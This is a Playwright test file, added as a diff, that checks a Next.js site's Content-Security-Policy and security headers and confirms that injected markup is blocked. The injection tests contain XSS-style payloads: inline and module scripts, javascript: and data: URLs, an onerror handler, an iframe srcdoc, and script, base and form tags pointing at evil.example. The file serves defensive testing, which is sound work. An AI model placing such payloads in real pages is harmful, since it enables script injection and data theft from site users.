@@ -1,0 +1,159 @@
+import { createHash } from "node:crypto";
+import { expect, type Page } from "@playwright/test";
+import { locales } from "../../lib/domain/locale.ts";
+import { routing } from "../../lib/i18n/routing.ts";
+import { test } from "../support/test.ts";
+
+const url = process.env.E2E_URL ?? "";
+const names = ["/", "/evaluation", "/contact", "/catalog", "/privacy"] as const;
+const paths = locales.flatMap((locale) =>
+  names.map((name) => {
+    const path = routing.pathnames[name];
+    return `/${locale}${typeof path === "string" ? path : path[locale]}`.replace(/\/$/, "");
+  }),
+);
+const evaluations = ["/en/evaluation", "/es/evaluacion"];
+
+/** What the browser says on its console from now on, errors alone. */
+function listen(page: Page): string[] {
+  const errors: string[] = [];
+  page.on("console", (message) => message.type() === "error" && errors.push(message.text()));
+  page.on("pageerror", (error) => errors.push(error.message));
+  return errors;
+}
+
+/** Serves the page with its own headers, but with this at the end of its body. */
+async function inject(page: Page, path: string, html: string): Promise<void> {
+  await page.route(`${url}${path}`, async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace("</body>", `${html}</body>`);
+    await route.fulfill({ response, body });
+  });
+}
+
+/** The form of script alone: one question, and a tap leads to the next one. */
+async function expectToWork(page: Page): Promise<void> {
+  const progress = (number: number) =>
+    page.locator("legend:visible", { hasText: new RegExp(`^\\D+ ${number} \\D+ 9`) });
+  await expect(progress(1)).toBeVisible();
+  await expect(progress(2)).toHaveCount(0);
+  await page.locator("label:has(input[type=radio])").filter({ visible: true }).first().click();
+  await expect(progress(2)).toBeVisible();
+}
+
+for (const path of paths) {
+  test(`${path} runs under a policy without unsafe sources, and the browser has nothing to complain of`, async ({
+    page,
+  }) => {
+    const errors = listen(page);
+    const response = await page.goto(`${url}${path}`, { waitUntil: "networkidle" });
+    const headers = response?.headers() ?? {};
+    const policy = headers["content-security-policy"] ?? "";
+    expect(response?.status()).toBe(200);
+    expect(policy).toMatch(/^default-src 'none'; script-src 'self'( 'sha256-[\w+/=]+')+; style-src 'self';/);
+    expect(policy).not.toContain("unsafe");
+    // Each inline script of the bytes that arrived is admitted by its own hash.
+    const inline = await page.evaluate(
+      (html) => {
+        const parsed = new DOMParser().parseFromString(html, "text/html");
+        return [...parsed.querySelectorAll("script:not([src], [type])")].map((script) => script.textContent ?? "");
+      },
+      (await response?.text()) ?? "",
+    );
+    const hashes = inline.map((text) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`);
+    expect(policy.match(/'sha256-[^']+'/g)).toEqual(hashes);
+    expect(headers).toMatchObject({
+      "x-content-type-options": "nosniff",
+      "referrer-policy": "strict-origin-when-cross-origin",
+      "cross-origin-opener-policy": "same-origin",
+      "cross-origin-resource-policy": "same-origin",
+      "x-frame-options": "DENY",
+    });
+    expect(Object.keys(headers).filter((name) => /^x-(nextjs|next|middleware|powered)/.test(name))).toEqual([]);
+    expect(errors).toEqual([]);
+  });
+}
+
+for (const path of evaluations) {
+  test(`${path} is interactive under its policy`, async ({ page }) => {
+    await page.goto(`${url}${path}`);
+    await expectToWork(page);
+  });
+}
+
+test("what was injected into a page does not run, and the page works on", async ({ page }) => {
+  const mark = "document.documentElement.dataset.injected = 'ran'";
+  await inject(
+    page,
+    "/en/evaluation",
+    [
+      `<script>${mark}</script>`,
+      `<script>self.__next_f.push([1,"x"]);${mark}</script>`,
+      `<script type="module">${mark}</script>`,
+      `<SCRIPT>${mark}</SCRIPT>`,
+      `<script src="data:text/javascript,${mark}"></script>`,
+      `<script src="https://evil.example/x.js"></script>`,
+      `<img src="data:," onerror="${mark}" alt="">`,
+      `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
+      `<a id="injected" href="javascript:${mark}">x</a>`,
+      `<base href="https://evil.example/">`,
+    ].join(""),
+  );
+  const refused: string[] = [];
+  page.on("console", (message) => message.type() === "error" && refused.push(message.text()));
+  await page.goto(`${url}/en/evaluation`);
+  await page.evaluate(() => document.querySelector<HTMLElement>("#injected")?.click());
+  await expectToWork(page);
+  expect(await page.evaluate(() => document.documentElement.dataset.injected)).toBeUndefined();
+  expect(refused.filter((text) => text.includes("Content Security Policy")).length).toBeGreaterThanOrEqual(8);
+});
+
+test("a form that was injected sends nothing elsewhere, and a style does not apply", async ({ page }) => {
+  await inject(
+    page,
+    "/en/evaluation",
+    '<style>body{rotate:1deg}</style><form id="injected" action="https://evil.example/"><input name="a"></form>',
+  );
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(request.url()));
+  await page.goto(`${url}/en/evaluation`);
+  const errors = listen(page);
+  await page.evaluate(() => document.querySelector<HTMLFormElement>("form#injected")?.submit());
+  await expect.poll(() => errors.join()).toContain("form-action");
+  expect(await page.evaluate(() => getComputedStyle(document.body).rotate)).toBe("none");
+  expect(asked.filter((each) => !each.startsWith(url))).toEqual([]);
+});
+
+test("text is never run as a program", async ({ page }) => {
+  await page.goto(`${url}/en/evaluation`);
+  // In a later turn, where the browser's debugger, which may do so, is not the caller.
+  const outcome = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        setTimeout(() => {
+          try {
+            resolve(String(new Function("return 'ran'")()));
+          } catch (error) {
+            resolve(error instanceof Error ? error.name : "");
+          }
+        });
+      }),
+  );
+  expect(outcome).toBe("EvalError");
+});
+
+test("answers that are no page are protected, too, and the API's are as they were", async ({ request, client }) => {
+  const script = /src="(\/_next\/static\/[^"]+\.js)"/.exec(
+    await (await request.get(`${url}/en/evaluation`)).text(),
+  )?.[1];
+  for (const path of [script ?? "", "/robots.txt", "/nothing-at-all"]) {
+    const headers = (await request.get(`${url}${path}`, { maxRedirects: 0 })).headers();
+    expect(headers["x-content-type-options"], path).toBe("nosniff");
+    expect(headers["cross-origin-resource-policy"], path).toBe("same-origin");
+  }
+  const { headers } = await client.get("/api/healthz", { "accept-encoding": "gzip, br" });
+  for (const name of ["content-security-policy", "content-encoding", "cross-origin-resource-policy"]) {
+    expect(headers.get(name), name).toBeNull();
+  }
+  expect(headers.get("vary")).not.toContain("Accept-Encoding");
+});
